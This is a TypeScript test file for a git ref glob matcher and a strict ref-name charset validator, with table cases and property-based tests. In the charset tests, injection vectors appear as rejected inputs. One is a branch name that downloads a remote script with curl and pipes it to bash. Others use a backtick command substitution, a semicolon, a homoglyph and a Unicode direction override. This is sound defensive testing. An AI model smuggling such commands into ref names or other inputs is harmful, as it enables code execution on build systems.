import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { refCharsetProblem, refMatches } from '../../shared/checks/refs.js';

describe('ref globs', () => {
  it.each<[string, string, boolean]>([
    ['refs/heads/main', 'refs/heads/main', true],
    ['refs/heads/main', 'refs/tags/main', false],
    ['refs/heads/main', 'refs/heads/Main', false],
    ['refs/heads/main', 'refs/heads/main/x', false],
    ['refs/heads/*', 'refs/heads/feature', true],
    ['refs/heads/*', 'refs/heads/feature/x', false],
    ['refs/heads/**', 'refs/heads/feature/x/y', true],
    ['refs/heads/**', 'refs/tags/v1', false],
    ['refs/tags/v*', 'refs/tags/v1.2.3', true],
    ['refs/tags/v*', 'refs/tags/1.2.3', false],
    ['refs/tags/v?', 'refs/tags/v1', true],
    ['refs/tags/v?', 'refs/tags/v10', false],
    ['refs/heads/{main,dev}', 'refs/heads/main', false], // no brace expansion
    ['refs/heads/[m]ain', 'refs/heads/main', false], // brackets are literal
    ['refs/heads/[m]ain', 'refs/heads/[m]ain', true],
    ['!refs/heads/main', 'refs/heads/dev', false], // no negation
    ['refs/heads/*', 'refs/heads/.hidden', true],
    ['refs/pull/*/merge', 'refs/pull/42/merge', true],
    ['refs/heads/m\u0430in', 'refs/heads/main', false], // no Unicode folding
  ])('%s vs %s → %s', (pattern, ref, want) => {
    expect(refMatches(pattern, ref)).toBe(want);
  });

  // git check-ref-format: no component starts with a dot.
  const segment = fc.stringMatching(/^[A-Za-z0-9_-][A-Za-z0-9._-]{0,11}$/);
  const ns = fc.constantFrom('heads', 'tags', 'pull', 'merge-requests');

  it('a pattern in one namespace never matches a ref in another (refs/tags/main ≠ refs/heads/main)', () => {
    fc.assert(
      fc.property(ns, ns, fc.array(segment, { minLength: 1, maxLength: 3 }), fc.constantFrom('', '*', '**'), (a, b, segs, tail) => {
        fc.pre(a !== b);
        const pattern = tail ? `refs/${a}/${tail}` : `refs/${a}/${segs.join('/')}`;
        return !refMatches(pattern, `refs/${b}/${segs.join('/')}`);
      }),
    );
  });

  it('a pattern without wildcards matches exactly itself', () => {
    fc.assert(fc.property(fc.string({ minLength: 1, maxLength: 40 }), fc.string({ minLength: 1, maxLength: 40 }), (p, r) => {
      fc.pre(!/[*?]/.test(p));
      return refMatches(`refs/heads/${p}`, `refs/heads/${r}`) === (p === r) && refMatches(`refs/heads/${p}`, `refs/heads/${p}`);
    }));
  });

  it('* matches one segment, ** any number of segments', () => {
    fc.assert(fc.property(fc.array(segment, { minLength: 1, maxLength: 4 }), (segs) => {
      const ref = `refs/heads/${segs.join('/')}`;
      return refMatches('refs/heads/*', ref) === (segs.length === 1) && refMatches('refs/heads/**', ref);
    }));
  });

  it('matching is case-sensitive', () => {
    fc.assert(fc.property(segment, (s) => {
      fc.pre(s.toUpperCase() !== s);
      return !refMatches(`refs/heads/${s}`, `refs/heads/${s.toUpperCase()}`);
    }));
  });
});

describe('ref charset (strict)', () => {
  const SAFE = /^[A-Za-z0-9._/+@#=,%-]+$/;
  it.each<[string, boolean]>([
    ['refs/heads/main', true],
    ['refs/heads/release/v1.2.3', true],
    ['refs/heads/$({curl,-sSfL,raw.githubusercontent.com/x/y/z/file.sh}${IFS}|${IFS}bash)', false],
    ['refs/heads/a`id`', false],
    ['refs/heads/a;b', false],
    ['refs/heads/m\u0430in', false],
    ['refs/heads/main\u202e', false],
    ['refs/heads/a\nb', false],
    ['refs/heads/a b', false],
    ["refs/heads/a'b", false],
  ])('%j safe=%s', (ref, safe) => {
    expect(refCharsetProblem(ref) === undefined).toBe(safe);
  });

  it('accepts a ref exactly when every character is in the safe set, and names what it refuses', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (s) => {
      const ref = `refs/heads/${s}`;
      const problem = refCharsetProblem(ref);
      if (SAFE.test(ref)) return problem === undefined;
      return problem !== undefined && problem.length > 0;
    }), { numRuns: 500 });
  });

  it('any non-ASCII character is refused, whatever its normal form', () => {
    fc.assert(fc.property(fc.string({ minLength: 1, maxLength: 10 }), fc.integer({ min: 0x80, max: 0x10ffff }).filter((cp) => cp < 0xd800 || cp > 0xdfff), (s, cp) => {
      return refCharsetProblem(`refs/heads/${s}${String.fromCodePoint(cp)}`)?.includes('non-ASCII') === true;
    }));
  });
});
